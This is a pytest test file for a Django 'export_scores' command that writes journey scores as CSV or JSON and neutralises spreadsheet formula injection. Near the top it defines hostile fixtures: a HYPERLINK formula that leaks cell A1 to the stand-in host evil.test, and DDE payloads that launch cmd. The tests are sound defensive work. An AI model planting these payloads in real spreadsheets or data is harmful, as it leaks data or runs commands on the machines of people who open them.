"""`manage.py export_scores`: a journey's scores as the selectors read them, as CSV a
spreadsheet opens without running anything in it (S7), or as JSON."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import dataclass
from datetime import timedelta
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from core.csv import FORMULA_TRIGGERS, neutralise_cell, restore_cell
from journeys.models import Journey
from scoring import selectors
from scoring.export import COLUMNS
from scoring.services import recompute_journey
from tests.conftest import Personas
from tests.factories import CriterionFactory, JourneyFactory, StageFactory, TouchPointFactory
from touchpoints.models import Evaluation, TouchPoint
from touchpoints.services import AnswerInput, EvaluationInput, submit_evaluations

HOSTILE_STAGE = '=HYPERLINK("http://evil.test/?leak="&A1,"Details")'
HOSTILE_NAMES = ("-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+thanks")


@dataclass
class Scored:
    journey: Journey
    touch_points: list[TouchPoint]  # map order


def _evaluate(personas: Personas, touch_point: TouchPoint, value: int, *, days_ago: int) -> None:
    criterion = touch_point.criteria.get()
    submit_evaluations(
        evaluator=personas.evaluator,
        organization=personas.org,
        items=[
            EvaluationInput(
                touch_point_id=touch_point.pk,
                source="audit",
                observed_at=timezone.now() - timedelta(days=days_ago, hours=1),
                answers=[AnswerInput(criterion.pk, value)],
            )
            for _ in range(10)
        ],
    )


@pytest.fixture
def scored(personas: Personas) -> Scored:
    """A journey with hostile names, a touch point that meets its target, two weak links
    (one falling: a negative trend), and a last touch point nobody evaluated yet."""
    journey = JourneyFactory(organization=personas.org, name="New broadband customer", target=80)
    first = StageFactory(journey=journey, name=HOSTILE_STAGE)
    second = StageFactory(journey=journey, name="Get help")
    touch_points = [
        TouchPointFactory(stage=first, name="Welcome"),
        TouchPointFactory(stage=first, name=HOSTILE_NAMES[0]),
        TouchPointFactory(stage=second, name=HOSTILE_NAMES[1]),
        TouchPointFactory(stage=second, name=HOSTILE_NAMES[2]),
    ]
    for touch_point in touch_points:
        CriterionFactory(touch_point=touch_point)
    welcome, falling, weak, _unseen = touch_points
    _evaluate(personas, welcome, 5, days_ago=1)
    _evaluate(personas, falling, 1, days_ago=1)
    _evaluate(personas, falling, 3, days_ago=100)  # the window before: better then
    _evaluate(personas, weak, 2, days_ago=1)
    recompute_journey(journey.pk)
    return Scored(journey, touch_points)


def export(*args: str) -> tuple[str, str]:
    out, err = StringIO(), StringIO()
    call_command("export_scores", *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def expected_rows(journey: Journey) -> list[dict[str, Any]]:
    """What the selectors say, in the export's columns."""
    scores = selectors.journey_scores(journey)
    ranks = {link.touch_point_id: link.rank for link in scores.weak_links}
    return [
        {
            "stage": row.stage.name,
            "touch_point_id": row.id,
            "name": row.name,
            "n": row.n,
            "mean": row.mean,
            "smoothed_score": row.smoothed_score,
            "ci_low": row.ci_low,
            "ci_high": row.ci_high,
            "target": row.target,
            "status": row.status,
            "trend": row.trend.change,
            "weak_link_rank": ranks.get(row.id),
        }
        for row in scores.touch_points
    ]


TEXT_COLUMNS = {"stage", "name", "status"}
INT_COLUMNS = {"touch_point_id", "n", "weak_link_rank"}


def parse_csv(text: str) -> list[dict[str, Any]]:
    """The CSV as a spreadsheet user's script would read it back: text un-neutralised,
    numbers as numbers, empty cells as no value."""
    header, *rows = csv.reader(io.StringIO(text, newline=""))
    assert tuple(header) == COLUMNS

    def value(column: str, cell: str) -> Any:
        if column in TEXT_COLUMNS:
            return restore_cell(cell)
        if cell == "":
            return None
        return int(cell) if column in INT_COLUMNS else float(cell)

    return [{c: value(c, cell) for c, cell in zip(header, row, strict=True)} for row in rows]


# --- Content ------------------------------------------------------------------------------------


def test_csv_holds_the_selectors_numbers_exactly_in_map_order(scored: Scored) -> None:
    out, _ = export("--journey", str(scored.journey.pk))

    rows = parse_csv(out)

    assert rows == expected_rows(scored.journey)
    assert [row["touch_point_id"] for row in rows] == [tp.pk for tp in scored.touch_points]
    # The fixture is worth its salt: every kind of cell is exercised.
    assert [row["status"] for row in rows] == [
        "meets",
        "weak_link",
        "weak_link",
        "insufficient_data",
    ]
    assert [row["weak_link_rank"] for row in rows] == [None, 1, 2, None]
    assert rows[1]["trend"] < 0
    assert rows[3]["mean"] is None


def test_json_holds_the_journey_score_and_the_same_rows(scored: Scored) -> None:
    out, _ = export("--journey", str(scored.journey.pk), "--format", "json")

    body = json.loads(out)

    scores = selectors.journey_scores(scored.journey)
    assert body["journey"] == {"id": scored.journey.pk, "name": "New broadband customer"}
    assert body["score"] == scores.score
    assert body["n"] == scores.n == 30
    assert body["basis"] == "snapshot"
    assert scores.window is not None
    assert body["window"] == {
        "since": scores.window.since.isoformat(),
        "until": scores.window.until.isoformat(),
    }
    assert body["pending"] is False
    assert body["touch_points"] == expected_rows(scored.journey)
    # JSON is not a spreadsheet: its text is exactly as stored.
    assert body["touch_points"][0]["stage"] == HOSTILE_STAGE


def test_a_journey_never_recomputed_exports_its_map_with_no_figures(personas: Personas) -> None:
    journey = JourneyFactory(organization=personas.org)
    TouchPointFactory(stage=StageFactory(journey=journey), name="Welcome")

    out, err = export("--journey", str(journey.pk))

    (row,) = parse_csv(out)
    assert row["name"] == "Welcome"
    assert (row["n"], row["mean"], row["smoothed_score"], row["trend"]) == (0, None, None, None)
    assert row["status"] == "insufficient_data"
    assert "never computed: run manage.py recompute_scores" in err


# --- Formula injection (S7) ---------------------------------------------------------------------


def test_every_text_cell_is_quoted_and_formula_cells_are_neutralised(scored: Scored) -> None:
    out, _ = export("--journey", str(scored.journey.pk))

    lines = out.split("\r\n")
    assert lines[-1] == ""  # RFC 4180: every record ends in CRLF
    falling = lines[2]
    stage = '"' + "'" + HOSTILE_STAGE.replace('"', '""') + '"'
    assert falling.startswith(f'{stage},{scored.touch_points[1].pk},"\'{HOSTILE_NAMES[0]}",10,')
    assert '"weak_link"' in falling
    for line in lines[1:-1]:
        cells = next(csv.reader([line]))
        for column, cell in zip(COLUMNS, cells, strict=True):
            if column in TEXT_COLUMNS:
                assert cell[:1] not in FORMULA_TRIGGERS, (column, cell)


def test_numbers_stay_numbers_even_when_negative(scored: Scored) -> None:
    out, _ = export("--journey", str(scored.journey.pk))

    trend = selectors.journey_scores(scored.journey).touch_points[1].trend.change
    assert trend is not None and trend < 0
    falling = out.split("\r\n")[2]
    assert f",{trend!r}," in falling  # bare, not quoted, no leading '


@pytest.mark.parametrize(
    ("text", "exported"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\x00=1", "'\x00=1"),
        ("'=1", "''=1"),  # someone's own quote: kept, so restoring gives it back
        ("Welcome", "Welcome"),
        ("'tis", "'tis"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_neutralise_cell_table(text: str, exported: str) -> None:
    assert neutralise_cell(text) == exported
    assert restore_cell(exported) == text


@given(st.text())
def test_restoring_a_neutralised_cell_gives_the_original_and_nothing_can_run(text: str) -> None:
    cell = neutralise_cell(text)

    assert restore_cell(cell) == text
    assert cell[:1] not in FORMULA_TRIGGERS


def test_a_hostile_name_survives_export_and_import_unchanged(
    scored: Scored, tmp_path: Path
) -> None:
    """The exported cell, pasted as-is into an import file (say, as the comment of a
    follow-up audit), is stored as the original text, not with our quote."""
    out, _ = export("--journey", str(scored.journey.pk))
    header, *rows = csv.reader(io.StringIO(out, newline=""))
    exported_names = [row[header.index("name")] for row in rows]
    assert exported_names[1] == "'" + HOSTILE_NAMES[0]
    welcome = scored.touch_points[0]
    criterion = welcome.criteria.get()
    file = io.StringIO()
    writer = csv.writer(file)
    writer.writerow(
        ["key", "touch_point", "source", "observed_at", "comment", "criterion", "value"]
    )
    writer.writerows(
        [f"follow-up-{i}", welcome.pk, "audit", "2026-03-02T09:30:00Z", name, criterion.pk, 4]
        for i, name in enumerate(exported_names)
    )
    path = tmp_path / "follow-up.csv"
    path.write_text(file.getvalue(), encoding="utf-8")
    organization = scored.journey.organization

    call_command(
        "import_evaluations",
        str(path),
        "--organization",
        organization.slug,
        "--evaluator",
        "evaluator@northwind.test",
        stdout=StringIO(),
        stderr=StringIO(),
    )

    comments = Evaluation.objects.filter(client_key__startswith="follow-up-").order_by("client_key")
    assert [e.comment for e in comments] == [tp.name for tp in scored.touch_points]


# --- The command --------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_output_file_holds_exactly_what_stdout_would(
    scored: Scored, tmp_path: Path, fmt: str
) -> None:
    path = tmp_path / f"scores.{fmt}"
    printed, _ = export("--journey", str(scored.journey.pk), "--format", fmt)

    out, err = export("--journey", str(scored.journey.pk), "--format", fmt, "--output", str(path))

    assert out == ""
    assert path.read_bytes() == printed.encode()
    assert f"Exported 4 touch points of 'New broadband customer' to {path}" in err
    assert "journey score" in err


def test_unknown_journey_is_a_clear_error(db: None) -> None:
    with pytest.raises(CommandError, match=re.escape("No journey has the id 999999.")):
        export("--journey", "999999")


def test_unknown_format_is_refused(scored: Scored) -> None:
    with pytest.raises(CommandError, match="invalid choice: 'xlsx'"):
        export("--journey", str(scored.journey.pk), "--format", "xlsx")


def test_unwritable_output_is_a_clear_error(scored: Scored, tmp_path: Path) -> None:
    target = tmp_path / "missing-dir" / "scores.csv"

    with pytest.raises(
        CommandError, match=re.escape(f"Cannot write {target}: No such file or directory.")
    ):
        export("--journey", str(scored.journey.pk), "--output", str(target))


def test_export_reads_in_a_fixed_number_of_queries(
    scored: Scored, django_assert_num_queries: Any
) -> None:
    """The journey, then the selectors' two reads of the snapshot, however long the map."""
    for _ in range(20):
        TouchPointFactory(stage=scored.touch_points[0].stage)

    with django_assert_num_queries(3):
        export("--journey", str(scored.journey.pk))
